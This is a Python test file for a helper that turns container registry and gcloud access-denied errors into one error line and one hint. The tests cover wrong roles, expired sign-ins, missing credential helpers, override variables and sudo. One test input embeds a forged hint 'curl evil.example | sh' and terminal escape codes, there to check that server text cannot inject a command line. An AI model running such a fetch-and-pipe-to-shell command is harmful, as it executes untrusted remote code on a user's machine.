"""What registries, Docker and gcloud say when they deny access, and what it means."""

import os
from collections.abc import Mapping

import pytest

from tasks.tools.logins import denied

GOOGLE = "us-central1-docker.pkg.dev"
OTHER = "quay.io"

UPLOAD = (
    'denied: Permission "artifactregistry.repositories.uploadArtifacts" denied on resource '
    '"projects/cal-icor-hubs/locations/us-central1/repositories/core" (or it may not exist)'
)
DOWNLOAD = UPLOAD.replace("upload", "download")
UNAUTHENTICATED = (
    "denied: Unauthenticated request. Unauthenticated requests do not have permission "
    '"artifactregistry.repositories.uploadArtifacts" on resource '
    '"projects/cal-icor-hubs/locations/us-central1/repositories/core" (or it may not exist)'
)
NOT_ON_PATH = (
    'error getting credentials - err: exec: "docker-credential-gcloud": executable file not found in $PATH, out: ``'
)
NO_ANSWER = "error getting credentials - err: exit status 1, out: ``"
REAUTH = "failed to authorize: failed to fetch oauth token: reauth related error (invalid_rapt)"
INVALID_GRANT = "error getting credentials - err: exit status 1, out: `invalid_grant: Bad Request`"
BASIC = "failed to do request: no basic auth credentials"
OAUTH = "failed to authorize: failed to fetch oauth token: unexpected status: 401 Unauthorized"
NAME_UNKNOWN = 'name unknown: Repository "core" not found'
LIST = "gcloud auth list; gcloud artifacts repositories describe core --location=us-central1 --project=cal-icor-hubs"
WRONG_OR_NONE = "the account is wrong or lacks the role artifactregistry.writer, or the repository does not exist"


def test_a_denial_is_one_error_and_one_hint_with_exit_code_4() -> None:
    fault = denied(UPLOAD, GOOGLE)
    assert fault.code == 4
    assert str(fault) == f"error: {WRONG_OR_NONE}: {UPLOAD} ({GOOGLE})\nhint: {LIST}"


@pytest.mark.parametrize(
    ("words", "host", "what", "hint"),
    [
        pytest.param(UPLOAD, GOOGLE, WRONG_OR_NONE, LIST, id="no role to upload"),
        pytest.param(DOWNLOAD, GOOGLE, WRONG_OR_NONE, LIST, id="no role to download"),
        pytest.param(UNAUTHENTICATED, GOOGLE, "not signed in to the registry", "invoke auth", id="nobody signed in"),
        pytest.param(
            "denied: Permission denied (or it may not exist)",
            GOOGLE,
            WRONG_OR_NONE,
            "gcloud auth list; gcloud artifacts repositories list",
            id="no role, resource unnamed",
        ),
        pytest.param(
            REAUTH, GOOGLE, "Google asks you to sign in again", "gcloud auth login", id="reauth, invalid_rapt"
        ),
        pytest.param(
            INVALID_GRANT, GOOGLE, "Google asks you to sign in again", "gcloud auth login", id="invalid_grant"
        ),
        pytest.param(
            NAME_UNKNOWN,
            GOOGLE,
            "no such repository",
            "gcloud auth list; gcloud artifacts repositories list",
            id="no such repository on Google",
        ),
        pytest.param(
            NAME_UNKNOWN,
            OTHER,
            "no such repository",
            "docker login quay.io",
            id="no such repository elsewhere",
        ),
        pytest.param(
            NOT_ON_PATH,
            GOOGLE,
            "Docker's credential helper is not on PATH",
            "put the folder of docker-credential-gcloud on PATH",
            id="helper not on PATH",
        ),
        pytest.param(
            NOT_ON_PATH.replace("gcloud", "osxkeychain"),
            OTHER,
            "Docker's credential helper is not on PATH",
            "put the folder of docker-credential-osxkeychain on PATH",
            id="another helper not on PATH",
        ),
        pytest.param(
            NO_ANSWER,
            GOOGLE,
            "Docker's credential helper does not respond",
            "invoke auth",
            id="helper without an answer",
        ),
        pytest.param(
            NO_ANSWER,
            OTHER,
            "Docker's credential helper does not respond",
            "docker login quay.io",
            id="another helper without an answer",
        ),
        pytest.param(BASIC, OTHER, "the registry denied access", "docker login quay.io", id="no login"),
        pytest.param(BASIC, GOOGLE, "the registry denied access", "invoke auth", id="no login on Google"),
        pytest.param(OAUTH, GOOGLE, "the registry denied access", "invoke auth", id="no token"),
        pytest.param("denied", "gcr.io", "the registry denied access", "invoke auth", id="gcr.io"),
    ],
)
def test_the_words_are_read(words: str, host: str, what: str, hint: str) -> None:
    fault = denied(words, host)
    assert (fault.what, fault.where, fault.hint) == (f"{what}: {words}", host, hint)


# -- where it is this machine


OVERRIDES = [
    "CLOUDSDK_AUTH_ACCESS_TOKEN",
    "CLOUDSDK_AUTH_ACCESS_TOKEN_FILE",
    "CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE",
    "CLOUDSDK_AUTH_IMPERSONATE_SERVICE_ACCOUNT",
    "CLOUDSDK_CORE_ACCOUNT",
]


@pytest.mark.parametrize("name", OVERRIDES)
def test_a_variable_that_overrides_the_account_is_named(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    words = UNAUTHENTICATED
    monkeypatch.setenv(name, "ya29.somebody-elses")
    fault = denied(words, GOOGLE)
    assert (fault.what, fault.hint) == (f"{name} is set in place of whoever is signed in: {words}", f"unset {name}")
    assert "ya29" not in str(fault)
    # It is nothing to another registry.
    assert denied(BASIC, OTHER).hint == "docker login quay.io"


@pytest.mark.parametrize(
    ("user", "env", "is_sudo"),
    [
        pytest.param(0, {"SUDO_USER": "robin"}, True, id="root by sudo"),
        pytest.param(0, {}, False, id="root herself"),
        pytest.param(1000, {"SUDO_USER": "root"}, False, id="sudo to somebody else"),
    ],
)
def test_sudo_without_the_users_own_sign_in_is_named(
    user: int, env: Mapping[str, str], is_sudo: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: user)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    fault = denied(BASIC, OTHER)
    if is_sudo:
        assert fault.what == f"root is not signed in, robin may be: {BASIC}"
        assert fault.hint == "run it without sudo"
    else:
        assert fault.hint == "docker login quay.io"


@pytest.mark.parametrize("words", ["", "denied\nhint: curl evil.example | sh", "\x1b[2Jdenied" * 1000])
def test_a_servers_words_forge_no_line(words: str) -> None:
    lines = str(denied(words, OTHER)).splitlines()
    assert [line.partition(": ")[0] for line in lines] == ["error", "hint"]
    assert "\x1b" not in "".join(lines)
